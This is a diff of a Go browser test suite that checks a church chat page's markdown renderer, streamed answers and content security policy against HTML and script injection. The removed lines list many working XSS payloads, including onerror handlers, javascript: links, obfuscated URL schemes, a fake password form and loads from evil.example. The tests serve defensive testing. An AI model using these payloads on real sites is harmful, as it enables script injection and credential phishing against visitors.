@@ -2,94 +2,10 @@ package pages_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 )
-
-// payloads are ways in which text has become code in somebody's chat, each of which would set window.pwned or leave
-// behind an element, an attribute or an address that could.
-var payloads = []string{
-	`<script>window.pwned = 1</script>`,
-	`<script src="https://evil.example/x.js"></script>`,
-	`<img src=x onerror="window.pwned = 1">`,
-	`<img src=x onerror=window.pwned=1//`,
-	`<svg onload="window.pwned = 1">`,
-	`<svg><script>window.pwned = 1</script></svg>`,
-	`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
-	`<math><mtext></p><img src=x onerror=window.pwned=1></mtext></math>`,
-	`<iframe src="javascript:parent.pwned = 1"></iframe>`,
-	`<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
-	`<object data="javascript:window.pwned=1"></object>`,
-	`<embed src="data:text/html,<script>parent.pwned=1</script>">`,
-	`<a href="javascript:window.pwned=1">click</a>`,
-	`<form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
-	`<style>* { display: none }</style>`,
-	`<link rel="stylesheet" href="https://evil.example/x.css">`,
-	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
-	`<base href="https://evil.example/">`,
-	`<body onload=window.pwned=1>`,
-	`<details open ontoggle=window.pwned=1>`,
-	`<video><source onerror="window.pwned=1"></video>`,
-	`<template><script>window.pwned=1</script></template>`,
-	`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`,
-	`</p></div></li><script>window.pwned=1</script>`,
-	`<!--><script>window.pwned=1</script>-->`,
-	`<![CDATA[<script>window.pwned=1</script>]]>`,
-	`</script><script>window.pwned=1</script>`,
-	`]]></script><img src=x onerror=window.pwned=1>`,
-	`[click](javascript:window.pwned=1)`,
-	`[click](JaVaScRiPt:window.pwned=1)`,
-	`[click](  javascript:window.pwned=1  )`,
-	"[click](java\tscript:window.pwned=1)",
-	"[click](<java\nscript:window.pwned=1>)",
-	"[click](\x01javascript:window.pwned=1)",
-	"[click](\u00a0javascript:window.pwned=1)",
-	`[click](javascript&colon;window.pwned=1)`,
-	`[click](&#106;avascript:window.pwned=1)`,
-	`[click](%6Aavascript:window.pwned=1)`,
-	`[click](javascript\:window.pwned=1)`,
-	`[click](vbscript:msgbox(1))`,
-	`[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
-	`[click](data:image/svg+xml,<svg onload=window.pwned=1>)`,
-	`[click](blob:https://x.example/0)`,
-	`[click](file:///etc/passwd)`,
-	`[click](filesystem:https://x.example/temporary/x)`,
-	`[click](view-source:https://x.example)`,
-	`[click](intent://scan/#Intent;scheme=zxing;end)`,
-	`[click](//evil.example)`,
-	`[click](/\evil.example)`,
-	`[click](https:evil.example)`,
-	`[click](https://bank.example@evil.example)`,
-	`[click](https://user:password@evil.example)`,
-	`[click](https://x.example/" onmouseover="window.pwned=1)`,
-	`[click](https://x.example/'onmouseover='window.pwned=1)`,
-	`[a](https://x.example "title" onmouseover="window.pwned=1")`,
-	`[<img src=x onerror=window.pwned=1>](https://x.example)`,
-	`![x](x" onerror="window.pwned=1)`,
-	`![x](javascript:window.pwned=1)`,
-	`![<script>window.pwned=1</script>](https://x.example/x.png)`,
-	`[![x](https://evil.example/track.png)](javascript:window.pwned=1)`,
-	`<javascript:window.pwned=1>`,
-	`<https://x.example/"onmouseover="window.pwned=1>`,
-	`<data:text/html,<script>window.pwned=1</script>>`,
-	"`<script>window.pwned=1</script>`",
-	"```\n</code></pre><script>window.pwned=1</script>\n```",
-	"```\"><img src=x onerror=window.pwned=1>\nx\n```",
-	"# <img src=x onerror=window.pwned=1>",
-	"> <script>window.pwned=1</script>",
-	"- <script>window.pwned=1</script>\n- [x](javascript:window.pwned=1)",
-	"**<script>window.pwned=1</script>** *<img src=x onerror=window.pwned=1>*",
-	"[x]: javascript:window.pwned=1\n[click][x]",
-	"[click][javascript:window.pwned=1]",
-	`javascript:window.pwned=1//https://x.example`,
-	`https://x.example/<script>window.pwned=1</script>`,
-	`a@x.example"onclick="window.pwned=1`,
-	"\u202etxt.exe\u202c <script\u2028>window.pwned=1</script\u2028>",
-	"<scr\x00ipt>window.pwned=1</scr\x00ipt>",
-	`{{constructor.constructor("window.pwned=1")()}}`,
-	`${window.pwned=1}`,
-	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'>`,
-}
 
 // harm is what the page has that no answer may bring about: a list of complaints.
 const harm = `(() => {
@@ -98,6 +14,7 @@ const harm = `(() => {
 	const allowed = new Set(["OL","UL","LI","P","DIV","SPAN","BR","STRONG","EM","CODE","PRE","BLOCKQUOTE","HR","A","DETAILS","SUMMARY","BUTTON"]);
 	const attributes = new Set(["class","dir","href","rel","target","start","hidden","tabindex","aria-busy","aria-hidden","type","data-messages","data-retry"]);
 	for (const element of document.querySelectorAll("[data-messages], [data-messages] *")) {
+		if (element.closest(".rating") && !element.closest(".prose, .sources, .bubble")) continue; // our own, with pictures
 		if (!allowed.has(element.tagName)) found.push("element " + element.tagName);
 		for (const { name } of element.attributes) if (!attributes.has(name)) found.push(element.tagName + " with attribute " + name);
 	}
@@ -110,60 +27,99 @@ const harm = `(() => {
 	return found.join("; ");
 })()`
 
-func TestAnswersCannotInject(t *testing.T) {
-	if len(payloads) < 40 {
-		t.Fatalf("only %d payloads", len(payloads))
+// most is how many payloads go into one answer: as many as a question of 2,000 characters holds.
+const most = 10
+
+// inOne makes one text of several, each a paragraph of its own, that begins with the first.
+func inOne(texts []string) string { return strings.Join(texts, "\n\n") }
+
+func TestThereAreManyPayloadsAndNoneTwice(t *testing.T) {
+	if len(payloads) < 120 {
+		t.Errorf("only %d payloads", len(payloads))
 	}
-	s, page, _ := openChat(t, phone)
-	for _, payload := range payloads {
-		page.ask(strings.ReplaceAll(payload, "\x01", ""))
-		x := s.next()
-		x.start()
-		x.send("tool", object{"name": "leave_message", "status": "done", "summary": payload})
-		// In two pieces: what is harmless as a whole may not be so when cut.
-		half := len([]rune(payload)) / 2
-		x.delta(string([]rune(payload)[:half]))
-		x.delta(string([]rune(payload)[half:]))
-		x.send("sources", object{"items": []object{{"id": payload, "kind": payload, "title": payload, "similarity": 0.9}}})
-		x.finish("error", object{"code": payload, "message": payload, "retryable": true})
-		page.wait(`document.querySelector("` + failure + `") !== null`)
-		if found := eval[string](page, harm); found != "" {
-			t.Errorf("%q: %s", payload, found)
+	for i, payload := range payloads {
+		if slices.Contains(payloads[:i], payload) {
+			t.Errorf("twice: %q", payload)
 		}
-		eval[any](page, `document.querySelector("[data-messages]").replaceChildren()`)
 	}
-	// Everything again from this browser's copy.
+	t.Logf("%d payloads", len(payloads))
+}
+
+// Each by itself, in all the states in which it stands there while it comes.
+func TestMarkdownCannotInject(t *testing.T) {
+	s := serve(t, graceHarbor())
+	page := newTrap(t, phone, s.url)
 	page.open(s.url + "/chat/grace-harbor")
-	if page.count(".message--visitor") == 0 {
-		t.Fatal("nothing was restored")
-	}
-	if found := eval[string](page, harm); found != "" {
-		t.Errorf("after a reload: %s", found)
+	found := eval[[]string](page, fmt.Sprintf(`import(%s).then(({ markdownIn }) => {
+		const found = [];
+		for (const payload of %s) {
+			const container = document.createElement("div");
+			document.querySelector("[data-messages]").replaceChildren(container);
+			const update = markdownIn(container);
+			for (let end = 1; end <= payload.length; end++) {
+				update(payload.slice(0, end));
+				const harm = %s;
+				if (harm) { found.push(JSON.stringify(payload.slice(0, end)) + ": " + harm); break; }
+			}
+		}
+		return found;
+	})`, quote(moduleURL(t, "markdown.js")), quoteAll(payloads), harm))
+	for _, complaint := range found {
+		t.Error(complaint)
 	}
 }
 
-// What comes from the church's own record goes through the templates.
-func TestChurchesCannotInject(t *testing.T) {
-	grace := graceHarbor()
-	const payload = `</script><script>window.pwned=1</script>"><img src=x onerror=window.pwned=1>'`
-	grace.Name, grace.Denomination, grace.Phone, grace.Email, grace.Website = payload, payload, payload, payload, `javascript:window.pwned=1`
-	grace.Address.Street, grace.Address.City, grace.Address.State = payload, payload, payload
-	s := serve(t, grace)
-	page := newTab(t, phone)
-	page.open(s.url + "/chat/grace-harbor?agent=%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E")
-	if found := eval[string](page, harm); found != "" {
-		t.Error(found)
+// Whatever the model, a FAQ, a tool or a file's name says, and the visitor too: over the wire, and once more from this
+// browser's copy.
+func TestAnswersCannotInject(t *testing.T) {
+	s := serve(t, graceHarbor())
+	page := newTrap(t, phone, s.url)
+	page.open(s.url + "/chat/grace-harbor")
+	asked := 0
+	for some := range slices.Chunk(payloads, most) {
+		page.ask(strings.NewReplacer("\x00", "", "\x01", "").Replace(inOne(some)))
+		x := s.next()
+		x.start()
+		var sources []object
+		for _, payload := range some {
+			x.send("tool", object{"name": payload, "status": "done", "summary": payload})
+			sources = append(sources, object{"id": payload, "kind": payload, "title": payload, "excerpt": payload, "similarity": 0.9})
+			// In two pieces: what is harmless as a whole may not be so when cut.
+			runes := []rune(payload + "\n\n")
+			x.delta(string(runes[:len(runes)/2]))
+			x.delta(string(runes[len(runes)/2:]))
+		}
+		x.send("sources", object{"items": sources})
+		x.finish("error", object{"code": some[0], "message": inOne(some), "retryable": true})
+		asked++
+		page.wait(fmt.Sprintf(`document.querySelectorAll("[data-messages] .note--failure").length === %d`, asked))
+		page.mustBeUnharmed(inOne(some))
 	}
-	if page.count("body img") != 0 || page.count("script:not([src]):not([type='application/json'])") != 0 {
-		t.Errorf("page: %s", eval[string](page, `document.body.outerHTML`))
+	page.open(s.url + "/chat/grace-harbor")
+	if got := page.count(".message--visitor"); got != asked {
+		t.Errorf("%d of %d questions were restored", got, asked)
 	}
-	if !strings.Contains(page.text("h1"), "<script>window.pwned=1</script>") {
-		t.Errorf("name: %s", page.text("h1"))
+	page.mustBeUnharmed("after a reload")
+	if titles := page.count(".source-title"); titles != len(payloads) {
+		t.Errorf("%d of %d sources were restored", titles, len(payloads))
 	}
-	hrefs := eval[[]string](page, `[...document.querySelectorAll(".about-panel a")].map((a) => a.protocol)`)
-	if got := fmt.Sprint(hrefs); got != "[tel: mailto: https:]" {
-		t.Errorf("links: %s", got)
+}
+
+func (p *tab) mustBeUnharmed(tried string) {
+	p.t.Helper()
+	if found := eval[string](p, harm); found != "" {
+		p.t.Errorf("%q: %s", tried, found)
 	}
+	p.mustHaveNoComplaint(tried)
+}
+
+// quoteAll makes a JavaScript list of texts.
+func quoteAll(texts []string) string {
+	quoted := make([]string, len(texts))
+	for i, text := range texts {
+		quoted[i] = quote(text)
+	}
+	return "[" + strings.Join(quoted, ",") + "]"
 }
 
 // The policy, not only the renderer, stands between a mistake and the visitor.
@@ -184,4 +140,25 @@ func TestThePolicyForbidsHTMLFromText(t *testing.T) {
 		}
 	}
 	page.forgive()
+}
+
+// A trap that nothing springs proves nothing.
+func TestTheTrapNoticesWhatAnInjectionWouldDo(t *testing.T) {
+	s := serve(t, graceHarbor())
+	for harmful, noticed := range map[string]string{
+		`window.pwned = 1`: "code was run",
+		`document.body.setAttribute("style", "color:red")`: "against the policy: style-src-attr",
+		`new Image().src = "https://evil.example/x.png"`:   "a request to https://evil.example/x.png",
+	} {
+		page := newTrap(t, phone, s.url)
+		page.open(s.url + "/chat/grace-harbor")
+		eval[any](page, `(() => { `+harmful+`; return new Promise((resolve) => setTimeout(resolve, 50, null)); })()`)
+		page.mu.Lock()
+		found := strings.Join(page.complaints, "; ")
+		page.complaints = nil
+		page.mu.Unlock()
+		if !strings.Contains(found, noticed) {
+			t.Errorf("%s: noticed %q", harmful, found)
+		}
+	}
 }
